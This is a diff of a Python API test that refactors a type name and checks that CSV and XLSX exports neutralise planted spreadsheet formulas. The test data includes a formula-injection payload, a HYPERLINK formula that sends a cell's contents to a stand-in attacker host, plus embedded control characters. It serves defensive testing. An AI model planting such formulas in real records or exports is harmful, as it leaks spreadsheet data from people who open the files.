@@ -11,7 +11,7 @@ from fastapi.testclient import TestClient
 from openpyxl import load_workbook
 
 from matcher.map.build import MapParams, build_map
-from matcher.workspace.facade import Matcher
+from matcher.workspace.context import Context
 from tests.api.conftest import as_role
 
 TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"点击") 铸件表面涂料\x01'
@@ -41,7 +41,7 @@ def _wait(client: TestClient, headers: dict[str, str], run_id: str) -> None:
 
 
 def test_planted_formulas_leave_every_export_as_text(
-    client: TestClient, keys: dict[str, str], api_matcher: Matcher
+    client: TestClient, keys: dict[str, str], api_matcher: Context
 ) -> None:
     staff, viewer = as_role(keys, "staff"), as_role(keys, "staff")
     need = {"id": "EVIL-1", "title": TITLE, "description": "寻求锆英粉涂料，提高铸件表面光洁度。\x00",
@@ -64,7 +64,7 @@ def test_planted_formulas_leave_every_export_as_text(
         got = client.get(f"/batch-runs/{run['id']}/export", params={"format": fmt}, headers=viewer)
         assert got.status_code == 200, got.text
         files[f"batch.{fmt}"] = got.content
-    build_map(api_matcher.ctx, params=MapParams(topics=2, min_size=1))
+    build_map(api_matcher, params=MapParams(topics=2, min_size=1))
     files["map.xlsx"] = client.get("/map", params={"format": "xlsx"}, headers=viewer).content
     for name, content in files.items():
         cells = _xlsx_cells(content) if name.endswith("xlsx") else _csv_cells(content)
